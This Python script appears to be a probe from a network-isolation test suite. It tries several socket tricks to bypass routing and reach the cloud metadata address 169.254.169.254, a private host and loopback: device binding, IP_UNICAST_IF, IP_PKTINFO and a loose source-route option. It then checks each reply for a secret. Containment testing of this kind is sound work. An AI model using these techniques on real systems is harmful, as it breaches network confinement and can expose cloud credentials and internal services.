"""Goes around the routing table: a socket bound to the device takes any address to be on its link.

holds: internet, network namespace
unconfined: root
"""
import socket
import struct

from kit.attack import decoys, has_secret, tries

SO_BINDTODEVICE, IP_PKTINFO, IP_UNICAST_IF, IP_OPTIONS, MSG_DONTROUTE = 25, 8, 50, 4, 4
devices = [name for _, name in socket.if_nameindex() if name in ("tap0", "cable")] or ["lo"]


def udp(prepare, address):
    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            prepare(s)
            s.sendto(b"?", (address, 53))
            return has_secret(s.recv(200)) and address
    return ask


def tcp(prepare, address):
    def connect():
        with socket.socket() as s:
            s.settimeout(1.5)
            prepare(s)
            s.connect((address, 80))
            return has_secret(s.recv(200)) and address
    return connect


def to_device(s):
    s.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, devices[0].encode() + b"\0")


def unicast_if(s):
    s.setsockopt(socket.IPPROTO_IP, IP_UNICAST_IF, struct.pack("!I", socket.if_nametoindex(devices[0])))


def source_route(s):
    """By way of the gateway to where it will not lead."""
    s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton("169.254.169.254") + b"\0")


def packet_info(address):
    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            info = struct.pack("=I4s4s", socket.if_nametoindex(devices[0]), b"\0" * 4, b"\0" * 4)
            s.sendmsg([b"?"], [(socket.IPPROTO_IP, IP_PKTINFO, info)], 0, (address, 53))
            return has_secret(s.recv(200)) and address
    return ask


metadata, private = decoys["link_local"][0], decoys["private"][0]
tries({
    "tcp by device": tcp(to_device, metadata),
    "udp by device": udp(to_device, metadata),
    "private by device": tcp(to_device, private),
    "unicast_if": udp(unicast_if, metadata),
    "packet info": packet_info(metadata),
    "loopback by device": tcp(to_device, "127.0.0.1"),
    "source route": tcp(source_route, "10.0.2.2"),
}, absent=("loopback by device", "source route"), at_once=True)
